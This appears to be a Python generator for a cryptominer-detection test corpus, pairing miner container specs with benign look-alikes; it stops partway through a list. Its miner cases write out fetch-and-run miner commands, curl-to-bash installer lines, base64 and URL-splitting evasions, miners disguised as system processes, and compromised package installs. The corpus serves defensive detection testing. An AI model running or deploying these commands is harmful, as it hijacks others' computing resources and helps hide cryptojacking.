# Writes test/corpus/techniques/*.yaml, jackstop's adversarial detection corpus (issue 13).
# Kept as a script because some cases carry encoded payloads (base64, hex, gzip, reversed,
# printf escapes) that are computed here from their plain text: `python3 generate.py`.
# Hosts are documentation addresses (RFC 5737) or example domains; wallets are public
# example addresses (the Monero general fund); no case downloads anything.
import base64, gzip, os, yaml

W = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
W2 = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD'
BTC = '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'
ETH = '0x00000000219ab540356cBB839Cbe05303d7705Fa'
ISSUE = 'jackstop issue 13 (held-out evasions by technique)'


def c(image='alpine:3.20', command=None, args=None, env=None, **extra):
    container = {'image': image}
    if command is not None: container['command'] = command
    if args is not None: container['args'] = args
    if env is not None: container['env'] = [{'name': k, 'value': v} for k, v in env.items()]
    container.update(extra)
    return container


def case(name, why, container=None, **rest):
    entry = {'name': name}
    entry['source' if why.startswith(('http', 'Sysdig', 'Unit 42', 'Aqua', 'Trend', 'CrowdStrike', 'Microsoft', 'Kromtech', 'Safety', 'Rspack', 'xmrig', 'cpuminer', 'lolMiner', 'SRBMiner', 'xmr-stak', 'T-Rex', 'NBMiner', 'jackstop', 'GMiner', 'nanominer', 'Kinsing', 'Falco', 'Kaspersky', 'Nextron', 'Qubic', 'Ganache', 'Kubernetes', 'YARA', 'Suricata', 'Sigma')) else 'reason'] = why
    if container is not None: entry['container'] = container
    entry.update(rest)
    return entry


def sh(script, image='alpine:3.20', **kw):
    return c(image, ['sh', '-c', script], **kw)


PAYLOAD = f'wget -qO /tmp/k http://203.0.113.9/xmrig; chmod +x /tmp/k; /tmp/k -o pool.supportxmr.com:443 -u {W} -k --tls'
QUIET = 'echo hello from a decoded script'
b64 = lambda s: base64.b64encode(s.encode()).decode()
hexs = lambda s: s.encode().hex()
gzb64 = lambda s: base64.b64encode(gzip.compress(s.encode(), mtime=0)).decode()
esc = lambda s: ''.join('\\x%02x' % ord(ch) for ch in s)
b32 = lambda s: base64.b32encode(s.encode()).decode()

techniques = {}

# --- intel: images ---------------------------------------------------------------------
techniques['intel-images'] = {
    'description': 'Images from threat reports: Docker Hub accounts, typosquats, miner names and variants in repositories or tags, behind mirrors and proxies.',
    'miners': [
        case('vibersastra typosquat of ubuntu', 'Sysdig, 1,652 malicious Docker Hub images, 2022-11', c('vibersastra/ubuntu:latest')),
        case('vibersastra typosquat of golang', 'Sysdig, 1,652 malicious Docker Hub images, 2022-11', c('docker.io/vibersastra/golang:1.19')),
        case('azurenql image', 'Unit 42, cryptojacking images on Docker Hub, 2021-06', c('azurenql/ubuntu16.04')),
        case('thanhtudo image running dao.py', 'Aqua Security, cryptominer images on Docker Hub, 2021', c('thanhtudo/tomcat:latest')),
        case('thieunutre image', 'Aqua Security, cryptominer images on Docker Hub, 2021', c('thieunutre/alpine')),
        case('chanquaa image', 'Aqua Security, cryptominer images on Docker Hub, 2021', c('chanquaa/ubuntu')),
        case('vibersastra through Google\'s Docker Hub mirror', 'Sysdig, 2022-11; mirror.gcr.io serves Docker Hub content', c('mirror.gcr.io/vibersastra/ubuntu')),
        case('azurenql through a Harbor proxy project', 'Unit 42, 2021-06; Harbor proxy-cache projects prefix the upstream path', c('harbor.example/dockerhub-proxy/azurenql/ubuntu16.04')),
        case('xmrig6 image', 'jackstop issue 13 (name variants xmrig6, xmr1g)', c('someone/xmrig6:latest')),
        case('xmr1g in the tag of a generic repository', ISSUE, c('ghcr.io/acme-tools/base:xmr1g-6.21')),
        case('xmrig-notls image', 'xmrig project (the notls build); jackstop issue 13', c('quay.io/someone/xmrig-notls:6.22')),
        case('BzMiner GPU image', 'jackstop issue 13 (GPU miners absent from the lists)', c('someone/bzminer:v21.5.3')),
        case('SRBMiner-Multi image', 'SRBMiner-Multi project (GPU/CPU miner); jackstop issue 13', c('docker.io/miners/srbminer-multi:2.6.9')),
        case('OneZeroMiner image', 'jackstop issue 13 (GPU miners absent from the lists)', c('someone/onezerominer:1.3.7')),
        case('WildRig image', 'jackstop issue 13 (GPU miners absent from the lists)', c('ghcr.io/someone/wildrig-multi:0.40')),
        case('NBMiner image', 'NBMiner project (GPU miner); jackstop issue 13', c('someone/nbminer:42.3')),
        case('lolMiner image', 'lolMiner project (GPU miner); jackstop issue 13', c('registry.example.com/gpu/lolminer:1.88')),
        case('Qubic qli-Client image', 'Qubic qli-Client; jackstop issue 13', c('someone/qli-client:latest')),
        case('hellminer image', 'jackstop issue 13 (hellminer absent from the lists)', c('someone/hellminer:0.59')),
        case('kdevtmpfsi image', 'Kinsing (Aqua Security, 2020); jackstop issue 13', c('someone/kdevtmpfsi')),
    ],
    'benign': [
        case('official ubuntu', 'the image vibersastra typosquatted, from its real publisher', c('ubuntu:24.04')),
        case('official golang', 'the image vibersastra typosquatted, from its real publisher', c('golang:1.22')),
        case('official tomcat', 'the image thanhtudo misused, from its real publisher', c('tomcat:10.1')),
        case('NVIDIA CUDA base for an ML job', 'GPU images are not GPU miners', c('nvidia/cuda:12.4.1-base-ubuntu22.04')),
        case('app called rigel', 'Rigel is a star before it is a miner: an ambiguous name alone is not a miner', c('ghcr.io/acme/rigel-api:1.2.0')),
        case('t-rex runner game', 't-rex is an ambiguous name (the browser game)', c('someone/t-rex-runner:latest')),
        case('wildfly', 'close to wildrig, a different word', c('quay.io/wildfly/wildfly:31.0.0.Final')),
        case('Jupyter minimal notebook', 'data science image', c('jupyter/minimal-notebook:2024-05-27')),
        case('lolcat', 'close to lolminer, a different word', c('someone/lolcat:latest')),
        case('ingress-nginx pinned by an unlisted digest', 'a digest that intel does not list', c('registry.k8s.io/ingress-nginx/controller:v1.12.1@sha256:' + 'd2fbc4ec70d8aa2050dd91a91506e998765e86c96f32cffb56c503c9c34eed5b')),
        case('Harbor proxy of nginx', 'the proxy path of a clean image', c('harbor.example/dockerhub-proxy/library/nginx:1.27')),
        case('mirror of redis', 'Docker Hub mirror of a clean image', c('mirror.gcr.io/library/redis:7')),
        case('kubectl from bitnami', 'cluster tooling', c('bitnami/kubectl:1.30')),
        case('Qlik client', 'close to qli-client, a different word', c('qlik/qlik-cli:2.0')),
        case('helloworld', 'close to hellminer, a different word', c('hello-world:latest')),
    ],
}

# --- intel: programs ---------------------------------------------------------------------
techniques['intel-programs'] = {
    'description': 'Miner programs and renamed variants in commands, args and env, including GPU miners.',
    'miners': [
        case('xmrig6 binary', ISSUE, c(command=['/opt/xmrig6', '-c', '/etc/cfg.json'])),
        case('xmr1g binary', ISSUE, c(command=['./xmr1g'])),
        case('xmrig-notls with a config', ISSUE, c(command=['/usr/local/bin/xmrig-notls', '--config=/cfg/config.json'])),
        case('xmr-stak with its pools.txt', 'xmr-stak documentation (config.txt, pools.txt)', c(command=['xmr-stak', '-c', 'config.txt', '-C', 'pools.txt'])),
        case('Rigel with a kawpow stratum', 'Rigel miner documentation (-a, -o, -u)', c(command=['/app/rigel', '-a', 'kawpow', '-o', 'stratum+tcp://rvn.pool.example.net:6060', '-u', 'RVNwallet.rig1'])),
        case('BzMiner', 'BzMiner documentation (-a, -w, -p)', c(command=['bzminer', '-a', 'kaspa', '-w', 'kaspa:qr0000example', '-p', 'stratum+tcp://kas.pool.example.net:4444'])),
        case('OneZeroMiner', 'OneZeroMiner documentation', c(command=['./onezerominer', '-a', 'dynex', '-w', 'wallet', '-o', 'dnx.pool.example.net:19000'])),
        case('WildRig multi', 'WildRig documentation (--algo, --url, --user)', c(command=['/srv/wildrig-multi', '--algo', 'kawpow', '--url', 'stratum+tcp://rvn.pool.example.net:3333', '--user', 'RVNwallet', '--pass', 'x'])),
        case('T-Rex', 'T-Rex documentation (-a, -o, -u, -p, -w)', c(command=['t-rex', '-a', 'kawpow', '-o', 'stratum+tcp://rvn.pool.example.net:3333', '-u', 'RVNwallet', '-p', 'x', '-w', 'rig0'])),
        case('lolMiner mixed case', 'lolMiner documentation (--algo, --pool, --user)', c(command=['./lolMiner', '--algo', 'ETCHASH', '--pool', 'etc.pool.example.net:1010', '--user', ETH])),
        case('NBMiner', 'NBMiner documentation', c(command=['nbminer', '-a', 'kawpow', '-o', 'stratum+tcp://rvn.pool.example.net:3333', '-u', 'RVNwallet.w'])),
        case('SRBMiner-MULTI upper case', 'SRBMiner-Multi documentation (--algorithm, --pool, --wallet)', c(command=['./SRBMiner-MULTI', '--algorithm', 'randomx', '--pool', 'gulf.moneroocean.stream:10128', '--wallet', W])),
        case('Qubic qli-Client in a script', 'Qubic qli-Client (reads appsettings.json)', sh('cd /q && ./qli-Client')),
        case('hellminer for Verus', 'hellminer documentation (-c, -u, -p, --cpu)', c(command=['./hellminer', '-c', 'stratum+tcp://na.pool.example.net:3956', '-u', 'RVerusWallet.w', '-p', 'x', '--cpu', '4'])),
        case('kdevtmpfsi started from /tmp', 'Kinsing (Aqua Security, 2020)', c('ubuntu:22.04', ['/tmp/kdevtmpfsi'])),
        case('Dero miner of the Kubernetes campaign', 'CrowdStrike, Dero cryptojacking against Kubernetes, 2023-03', c(command=['/usr/bin/dero-miner-linux-amd64', '--wallet-address', 'dero1qyexample', '--daemon-rpc-address', 'node.example.net:10100'])),
        case('xmrig named in a setup env script', 'Sysdig, 2022 (miners started by scripts in env)', c('debian:12', ['bash', '-c', '$(SETUP)'], env={'SETUP': 'cd /opt && ./xmrig --background'})),
        case('cpuminer-gr', 'cpuminer-gr project (Raptoreum)', c(command=['/opt/cpuminer-gr', '-a', 'gr', '-o', 'stratum+tcp://rtm.pool.example.net:3008', '-u', 'RTMwallet'])),
        case('xmr-stak-rx with currency', 'xmr-stak documentation (--currency)', sh(f'./xmr-stak-rx --currency monero -o pool.hashvault.pro:443 -u {W} -p x')),
        case('kdevtmpfsi downloaded and run', 'Kinsing (Aqua Security, 2020)', sh('curl -s -o /tmp/kdevtmpfsi http://203.0.113.40/kdevtmpfsi; chmod +x /tmp/kdevtmpfsi; /tmp/kdevtmpfsi &')),
    ],
    'benign': [
        case('rigel as an app command', 'an ambiguous name alone is not a miner', c(command=['rigel', 'serve', '--port', '8080'])),
        case('t-rex runner', 'an ambiguous name alone is not a miner', c(command=['/app/t-rex-runner', '--level', '3'])),
        case('minerl environment', 'MineRL is a Minecraft reinforcement-learning package', c('python:3.11', ['python', '-m', 'minerl.data.download'])),
        case('cgroups exporter', 'monitoring', c(command=['/bin/cgroups-exporter', '--listen', ':9100'])),
        case('grafana agent', 'monitoring', c('grafana/agent:v0.40', ['/bin/grafana-agent', '--config.file=/etc/agent/agent.yaml'])),
        case('hellofresh service', 'close to hellminer, a different word', c(command=['/srv/hellofresh-api'])),
        case('lolcat banner', 'close to lolMiner, a different word', sh('echo started | lolcat')),
        case('wildcard DNS test', 'wild... words are not wildrig', c(command=['/bin/check', '--wildcard', '*.example.com'])),
        case('python trainer on GPU', 'a GPU job is not a GPU miner', c('nvidia/cuda:12.4.1-runtime-ubuntu22.04', ['python3', 'train.py', '--epochs', '10', '--gpus', '4'])),
        case('Monero full node', 'monerod is a node, not a miner', c('sethsimmons/simple-monerod:latest', ['monerod', '--rpc-bind-ip=0.0.0.0', '--confirm-external-bind', '--non-interactive'])),
        case('Bitcoin Core node', 'a node is not a miner', c('bitcoin/bitcoin:27', ['bitcoind', '-printtoconsole', '-rpcallowip=10.0.0.0/8'])),
        case('cpufreq tool', 'cpu... words are not cpuminer', c(command=['/usr/bin/cpufreq-info'])),
        case('Cassandra cluster manager', 'ccm is not ccminer', c(command=['ccm', 'create', 'test', '-v', '4.1.5', '-n', '3'])),
        case('geth dev chain', 'an Ethereum development node', c('ethereum/client-go:stable', ['geth', '--dev', '--http', '--http.addr', '0.0.0.0'])),
    ],
}

# --- intel: pools ---------------------------------------------------------------------------
techniques['intel-pools'] = {
    'description': 'Pools absent from the old lists and typo domains, in args, env and scripts.',
    'miners': [
        case('monero.crypto-pool.fr in args', ISSUE, c(args=['-o', 'monero.crypto-pool.fr:3333', '-u', W])),
        case('xmrpool.de with --url', ISSUE, c(args=['--url', 'xmrpool.de:5555'])),
        case('nanopool subdomain in env', 'Nextron Systems, Sigma rule Monero pool lookup, 2021-10', c(command=['/app/run'], env={'POOL': 'xmr-eu1.nanopool.org:14433'})),
        case('minexmr in a script', 'Nextron Systems, Sigma rule Monero pool lookup, 2021-10', sh('./app -o pool.minexmr.com:443')),
        case('monerocean typo domain', 'Nextron Systems, Sigma rule Linux crypto mining pool connections, 2021-10', c(args=['-o', 'gulf.monerocean.stream:10128'])),
        case('mine.c3pool.com', 'Nextron Systems, Sigma rule Monero pool lookup, 2021-10', c(args=['--url=mine.c3pool.com:13333'])),
        case('xmr.hashcity.org', 'Nextron Systems, Sigma rule Monero pool lookup, 2021-10', c(env={'HOST': 'xmr.hashcity.org', 'PORT': '3333'})),
        case('qubic.li for qli-Client', 'Qubic qli-Client (qubic.li pool)', c(env={'QLI_POOL': 'wss://ai.qubic.li/ws'})),
        case('stratum to 2miners', 'Nextron Systems, Sigma rule Monero pool lookup, 2021-10', c(args=['-o', 'stratum+ssl://xmr.2miners.com:12222'])),
        case('pool host in env parts', 'Nextron Systems, 2021-10; env split', c(command=['/worker'], env={'POOL_HOST': 'de.minexmr.com', 'POOL_PORT': '4444'})),
        case('crypto-pool.fr subdomain', ISSUE, sh('exec /usr/bin/svc -o xmr.crypto-pool.fr:8080 -p x')),
        case('hashvault in a probe', 'Sysdig, 2022 (miners started from probes)', c(livenessProbe={'exec': {'command': ['sh', '-c', 'pgrep svc || /svc -o pool.hashvault.pro:443 &']}})),
    ],
    'benign': [
        case('database pool size', 'pool in the sense of connections', c(env={'DB_POOL_SIZE': '10'})),
        case('thread pool flag', 'pool in the sense of threads', c(command=['/srv/app', '--thread-pool=64'])),
        case('NTP pool', 'pool.ntp.org is time, not mining', c(command=['chronyd', '-d'], env={'NTP_SERVERS': '0.pool.ntp.org 1.pool.ntp.org'})),
        case('pgbouncer pool mode', 'connection pooling', c('bitnami/pgbouncer:1.22', env={'PGBOUNCER_POOL_MODE': 'transaction'})),
        case('postgres URL named POOL', 'a database pool', c(env={'POOL': 'postgres://app@db.internal:5432/app'})),
        case('IP pool of a load balancer', 'MetalLB address pools', c(env={'ADDRESS_POOL': '10.10.0.100-10.10.0.200'})),
        case('worker pool flag', 'job queues', c(command=['celery', '-A', 'app', 'worker', '--pool=prefork', '--concurrency=8'])),
        case('redis pool host and port', 'connection pooling to redis', c(env={'REDIS_POOL_HOST': 'redis.cache.svc', 'REDIS_POOL_PORT': '6379'})),
        case('go pool package', 'a Go module path', c('golang:1.22', ['go', 'run', 'github.com/example/pool/cmd/poolctl@v1.0.0'])),
        case('storage pool', 'Ceph pools', c(command=['ceph', 'osd', 'pool', 'create', 'rbd', '64'])),
        case('node pool label in env', 'cloud node pools', c(env={'NODE_POOL': 'gpu-pool-a', 'CLUSTER': 'prod-eu'})),
        case('HikariCP pool name', 'JDBC connection pools', c('eclipse-temurin:21', ['java', '-Dspring.datasource.hikari.pool-name=main-pool', '-jar', 'app.jar'])),
    ],
}

# --- intel: installers --------------------------------------------------------------------
C3 = 'C3Pool xmrig_setup (github.com/C3Pool/xmrig_setup), the one-line installer'
MO = 'MoneroOcean xmrig_setup (github.com/MoneroOcean/xmrig_setup), the one-line installer'
XR = 'xmrig project release downloads (github.com/xmrig/xmrig/releases)'
techniques['intel-installers'] = {
    'description': 'Downloads from where miner installers are published (intel installers.yaml), however the URL is spelt, wherever it is.',
    'miners': [
        case('C3Pool setup piped to bash', C3, sh('curl -s -L https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash -s WALLET')),
        case('MoneroOcean setup without a scheme', MO, sh('wget -qO- raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | sh')),
        case('xmrig release tarball to a data directory', XR, c(command=['wget', '-q', 'https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz', '-O', '/data/app.tgz'])),
        case('C3Pool download host in env', C3, c(command=['/entrypoint.sh'], env={'ARCHIVE_URL': 'http://download.c3pool.org/xmrig_setup/raw/master/xmrig.tar.gz'})),
        case('mixed case, port and credentials', XR, sh('curl -fsSL -o /opt/x.tgz HTTPS://user@GitHub.com:443/XMRig/xmrig/releases/latest/download/x.tgz')),
        case('percent-encoded and dot segments', XR, sh('curl -fsSLo /opt/x.tgz https://github.com/xmrig/tools/../%78mrig/releases/download/v6.21.0/x.tgz')),
        case('installer URL hidden in base64', C3, sh('echo ' + b64('curl -sL https://raw.githubusercontent.com/c3pool/xmrig_setup/master/setup_c3pool_miner.sh | bash') + ' | base64 -d | sh')),
        case('installer URL joined from env by the shell', C3, sh('wget -q "$H$P" -O /opt/a.tgz', env={'H': 'https://download.c3', 'P': 'pool.org/xmrig.tar.gz'})),
        case('SRBMiner release in a postStart hook', 'SRBMiner-Multi project release downloads (github.com/doktor83/SRBMiner-Multi/releases)', c(command=['/app'], lifecycle={'postStart': {'exec': {'command': ['sh', '-c', 'curl -sLO https://github.com/doktor83/SRBMiner-Multi/releases/download/2.5.0/SRBMiner-Multi-2-5-0-Linux.tar.gz']}}})),
        case('lolMiner release by python', 'lolMiner project release downloads (github.com/Lolliedieb/lolMiner-releases/releases)', c('python:3.12', ['python3', '-c', "import urllib.request as u;u.urlretrieve('https://github.com/Lolliedieb/lolMiner-releases/releases/download/1.88/lolMiner_v1.88_Lin64.tar.gz','/opt/l.tgz')"])),
    ],
    'benign': [
        case('another repository of the C3Pool owner', 'a prefix matches whole path segments', c(command=['curl', '-fsSLO', 'https://raw.githubusercontent.com/C3Pool/website/main/README.md'])),
        case('an owner whose name starts with xmrig', 'a prefix matches whole path segments', sh('curl -fsSLO https://github.com/xmrigger/tools/releases/download/v1.0/tools.tgz')),
        case('a repository that only starts like xmrig_setup', 'a prefix ends at a segment boundary', c(command=['curl', '-fsSLO', 'https://raw.githubusercontent.com/MoneroOcean/xmrig_setup-docs/master/index.md'])),
        case('a helm install script', 'a well-known installer from an unlisted host', sh('curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash')),
        case('a host ending like a listed one', 'whole host names only', c(command=['curl', '-fsSLO', 'https://mirror-raw.githubusercontent.com/C3Pool/xmrig_setup/master/LICENSE'])),
        case('a subdomain of a host with only path entries', 'subdomains match only host-only entries', c(command=['curl', '-fsSLO', 'https://gist.raw.githubusercontent.com/C3Pool/xmrig_setup/master/LICENSE'])),
        case('README env value that mentions the installer', 'prose is documentation (' + ISSUE + ')', c(command=['/app/server'], env={'README': 'This chart never mines. Attackers often run curl -sL https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh and the admission webhook refuses it.'})),
    ],
}

# --- packages ---------------------------------------------------------------------------------
techniques['packages'] = {
    'description': 'Known-malicious package versions installed at start-up, in every installer form.',
    'miners': [
        case('pip install ultralytics 8.3.41', 'Safety CLI, Ultralytics supply-chain attack, 2024-12', c('python:3.12', ['pip', 'install', 'ultralytics==8.3.41'])),
        case('pip3 with extras and quotes', 'Safety CLI, Ultralytics supply-chain attack, 2024-12', sh('pip3 install --no-cache-dir "ultralytics[export]==8.3.42" && python app.py', 'python:3.12')),
        case('python -m pip', 'Safety CLI, Ultralytics supply-chain attack, 2024-12', c('python:3.12', ['python3', '-m', 'pip', 'install', 'Ultralytics==8.3.45'])),
        case('uv pip install', 'Safety CLI, Ultralytics supply-chain attack, 2024-12', sh('uv pip install ultralytics==8.3.46 && yolo predict', 'ghcr.io/astral-sh/uv:python3.12-bookworm')),
        case('npm i rspack core', 'Rspack maintainers, compromised npm releases, 2024-12', c('node:22', ['npm', 'i', '@rspack/core@1.1.7'])),
        case('yarn add rspack cli', 'Rspack maintainers, compromised npm releases, 2024-12', sh('yarn add @rspack/cli@1.1.7 && yarn build', 'node:22')),
        case('pnpm add rspack core', 'Rspack maintainers, compromised npm releases, 2024-12', sh('corepack enable && pnpm add @rspack/core@1.1.7', 'node:22')),
        case('pip install in an env script', 'Safety CLI, Ultralytics supply-chain attack, 2024-12', c('python:3.12', ['bash', '-c', '$(BOOT)'], env={'BOOT': 'pip install -q ultralytics==8.3.41; python serve.py'})),
        case('pip install in a postStart hook', 'Safety CLI, Ultralytics supply-chain attack, 2024-12', c('python:3.12', lifecycle={'postStart': {'exec': {'command': ['pip', 'install', 'ultralytics==8.3.42']}}})),
        case('npm install with flags', 'Rspack maintainers, compromised npm releases, 2024-12', c('node:22', ['npm', 'install', '--no-audit', '--save-dev', '@rspack/cli@1.1.7'])),
    ],
    'benign': [
        case('the fixed ultralytics release', 'a clean version of the same package', c('python:3.12', ['pip', 'install', 'ultralytics==8.3.43'])),
        case('ultralytics without a pin', 'no listed version is asked for', c('python:3.12', ['pip', 'install', 'ultralytics'])),
        case('the next rspack release', 'a clean version of the same package', c('node:22', ['npm', 'i', '@rspack/core@1.1.8'])),
        case('requirements file', 'the file is not read at admission', c('python:3.12', ['pip', 'install', '-r', 'requirements.txt'])),
        case('npm ci', 'a lockfile install', c('node:22', ['npm', 'ci'])),
        case('go install gopls', 'a clean Go tool', c('golang:1.22', ['go', 'install', 'golang.org/x/tools/gopls@v0.16.1'])),
        case('gem install rails', 'a clean gem', c('ruby:3.3', ['gem', 'install', 'rails', '-v', '7.1.3'])),
        case('cargo install ripgrep', 'a clean crate', c('rust:1.79', ['cargo', 'install', 'ripgrep', '--version', '14.1.0'])),
        case('yarn add react', 'a clean npm package', sh('yarn add react@18.3.1 react-dom@18.3.1', 'node:22')),
        case('pip download of a listed version', 'download without install runs nothing', c('python:3.12', ['pip', 'download', 'ultralytics==8.3.41', '-d', '/wheels'])),
    ],
}

# --- grammar ------------------------------------------------------------------------------------
g = lambda name, why, argv, **kw: case(name, why, c('debian:12-slim', argv, **kw))
techniques['grammar'] = {
    'description': 'Miner command-line grammars (xmrig, xmr-stak, cpuminer, lolMiner, SRBMiner, T-Rex, GMiner, nanominer) behind renamed binaries and unlisted hosts.',
    'miners': [
        g('the issue\'s renamed xmrig', 'xmrig command line options (-o, -u, -p, -k, --tls); ' + ISSUE, ['/usr/local/bin/app', '-o', '203.0.113.5:443', '-u', W, '-p', 'x', '-k', '--tls']),
        g('long options with equals', 'xmrig command line options', ['./svc', '--url=198.51.100.7:8443', f'--user={W}', '--pass=x', '--keepalive', '--donate-level=0']),
        g('no wallet, xmrig tuning flags', 'xmrig command line options (--cpu-priority, --cpu-max-threads-hint)', ['/bin/kworker', '-o', 'pool.example.net:3333', '-u', 'worker1', '-p', 'x', '--cpu-priority', '5', '--cpu-max-threads-hint', '50']),
        g('rx/0 with a pool host', 'xmrig command line options (-a rx/0)', ['/opt/svc', '-a', 'rx/0', '-o', 'mine.example.org:10001', '-u', 'acct']),
        g('coin monero', 'xmrig command line options (--coin)', ['/srv/x', '--coin', 'monero', '--url', 'proxy.example.net:3333', '--user', 'x1']),
        g('randomx mode', 'xmrig command line options (--randomx-mode)', ['./kthreadd', '-o', 'example.net:443', '-u', 'a', '--randomx-mode=fast', '--tls']),
        g('nicehash and rig id', 'xmrig command line options (--nicehash, --rig-id)', ['/usr/sbin/crond', '-o', '203.0.113.60:3333', '-u', 'u', '--nicehash', '--rig-id', 'r1']),
        g('tls fingerprint', 'xmrig command line options (--tls-fingerprint)', ['./a', '-o', '203.0.113.61:443', '-u', 'w', '--tls', '--tls-fingerprint', 'ab' * 32]),
        g('wallet and keepalive to a private proxy', 'xmrig command line options; proxies inside the cluster', ['/app', '-o', '10.0.4.7:3333', '-u', W2, '-k']),
        g('wallet in a worker-dotted user', 'xmrig documentation (wallet.worker)', ['/x', '-o', 'gate.example.org:1443', '-u', f'{W}.rig01', '--tls']),
        g('cpuminer getwork grammar', 'cpuminer documentation (--url, --userpass, --no-longpoll)', ['./cpu', '--algo=scrypt', '--url=http://203.0.113.62:9332', '--userpass=u:p', '--no-longpoll']),
        g('cpuminer stratum with coinbase address', 'cpuminer documentation (--coinbase-addr)', ['./cpu', '-a', 'sha256d', '-o', 'http://203.0.113.63:8332', '--coinbase-addr', BTC, '-O', 'rpc:pw']),
        g('cpuminer-opt yespower', 'cpuminer-opt documentation (-a yespower, -o, -u)', ['/usr/bin/worker', '-a', 'yespower', '-o', 'stratum+tcp://203.0.113.64:6234', '-u', 'wallet.w', '-t', '2']),
        g('lolMiner grammar renamed', 'lolMiner documentation (--algo, --pool, --user, --ethstratum)', ['./gpu-svc', '--algo', 'ETCHASH', '--pool', 'etc.example.net:1010', '--user', ETH, '--ethstratum', 'ETHPROXY']),
        g('lolMiner dual mining', 'lolMiner documentation (--dualmode, --dualpool)', ['./svc', '--algo', 'ETHASH', '--pool', 'a.example.net:1', '--user', 'u', '--dualmode', 'KASPADUAL', '--dualpool', 'b.example.net:2', '--dualuser', 'kaspa:q']),
        g('SRBMiner grammar renamed', 'SRBMiner-Multi documentation (--algorithm, --pool, --wallet, --disable-gpu)', ['./svc', '--algorithm', 'randomx', '--pool', 'example.net:3333', '--wallet', W, '--disable-gpu', '--cpu-threads', '4']),
        g('SRBMiner keepalive and password', 'SRBMiner-Multi documentation', ['./svc', '--algorithm', 'ghostrider', '--pool', '198.51.100.70:443', '--wallet', 'w', '--password', 'x', '--keepalive', 'true']),
        g('xmr-stak grammar renamed', 'xmr-stak documentation (--currency, -o, -u, --noTest)', ['./svc', '--currency', 'monero', '-o', '203.0.113.71:4444', '-u', 'w', '-p', 'x', '--noTest', '--noAMD', '--noNVIDIA']),
        g('T-Rex grammar renamed', 'T-Rex documentation (-a kawpow, -o, -u, -w)', ['./svc', '-a', 'kawpow', '-o', 'stratum+tcp://203.0.113.72:3333', '-u', 'RVNwallet', '-w', 'rig']),
        g('flags in an env command line', 'xmrig command line options in env (Sysdig, 2022)', ['sh', '-c', '/app/svc $ARGS'], env={'ARGS': f'-o 203.0.113.73:3333 -u {W} -k --tls'}),
        g('flags split over command and args', 'xmrig command line options', ['/usr/bin/kswapd0', '-o'], args=['203.0.113.74:80', '-u', 'w', '--donate-level', '1']),
        g('proxy host with background flag', 'xmrig command line options (-B, --background)', ['/lib/x', '-B', '-o', 'p.example.org:8080', '-u', 'x', '-p', 'x', '--max-cpu-usage=75']),
        g('metal3d-style env names on a generic image', 'Sysdig, 2022-11 (POOL_URL, POOL_USER, DONATE_LEVEL)', ['/entrypoint'], env={'POOL_URL': 'example.net:8080', 'POOL_USER': W, 'DONATE_LEVEL': '0'}),
        g('algorithm selector with stratum and user', 'xmrig command line options', ['./s', '--algo=cn/r', '--url=stratum+tcp://203.0.113.75:3333', '--user=w']),
        g('hellminer grammar renamed', 'hellminer documentation (-c, -u, -p x, --cpu)', ['./svc', '-c', 'stratum+tcp://203.0.113.76:3956', '-u', 'RVerus.w', '-p', 'x', '--cpu', '4']),
        g('GMiner server and port in two options', 'GMiner readme (--server, --port, --user, --algo)', ['/opt/svc', '--algo', 'kawpow', '--server', 'pool.example.net', '--port', '6060', '--user', 'worker1']),
        g('GMiner short options', 'GMiner readme (-a, -s, -n, -u, -p)', ['/opt/svc', '-a', 'etchash', '-s', 'pool.example.net', '-n', '2020', '-u', 'worker1', '-p', 'x']),
        g('lolMiner -p pool', 'lolMiner readme (-p [ --pool ] <pool>:<port>, -u, --tls)', ['./gpu-svc', '-a', 'ETHASH', '-p', 'pool.example.net:14444', '-u', 'worker1', '--tls', 'on']),
        g('nanominer command line', 'nanominer README (cmdline_launcher -algo -wallet -coin -rigName)', ['./cmdline_launcher.sh', '-algo', 'ethash', '-wallet', 'worker1', '-coin', 'etc', '-rigName', 'rig1', '-pool1', 'pool.example.net:19999']),
        g('xmrig pool without its port', 'xmrig Url.h (port 3333 when the URL has none)', ['/opt/svc', '-o', 'pool.unknown-example.net', '-u', 'worker1', '-p', 'x', '--donate-level', '1']),
    ],
    'benign': [
        g('curl with output, user and insecure', 'curl -o is a file, -u credentials, -k insecure', ['curl', '-k', '-o', '/tmp/out.json', '-u', 'svc:pass', 'https://api.example.com/v1/export']),
        g('ssh with options and port', 'ssh -o options and -p port', ['ssh', '-o', 'StrictHostKeyChecking=no', '-p', '2222', 'deploy@git.example.com']),
        g('mysql client', 'mysql -u, -p, -h', ['mysql', '-u', 'root', '-pSecret', '-h', 'db.internal', '-P', '3306']),
        g('redis-cli', 'redis-cli -h, -p, -a', ['redis-cli', '-h', 'redis.cache', '-p', '6379', '-a', 'secret', 'PING']),
        g('sqlcmd with output file', 'sqlcmd -S, -U, -P, -o', ['sqlcmd', '-S', 'sql.internal,1433', '-U', 'sa', '-P', 'pw', '-o', '/tmp/result.txt']),
        g('psql', 'psql -U -h', ['psql', '-U', 'postgres', '-h', 'db.internal', '-c', 'select 1']),
        g('wget with output and user agent', 'wget -O -U', ['wget', '-O', '/tmp/page.html', '-U', 'probe/1.0', 'https://www.example.com/']),
        g('mongosh with tls', 'mongosh --tls --username', ['mongosh', 'mongodb://db.internal:27017', '--username', 'app', '--password', 'pw', '--tls']),
        g('openvpn client', 'openvpn --remote', ['openvpn', '--remote', 'vpn.example.com', '1194', '--auth-user-pass', '/etc/creds']),
        g('iperf3', 'iperf3 -c -p -t', ['iperf3', '-c', 'iperf.internal', '-p', '5201', '-t', '30']),
        g('netcat to port 3333', 'a mining port alone needs company', ['nc', '-vz', 'backend.internal', '3333']),
        g('java app with url user tls', 'an https URL is no pool endpoint', ['java', '-jar', 'app.jar', '--url=https://api.internal:8443', '--user=svc', '--tls']),
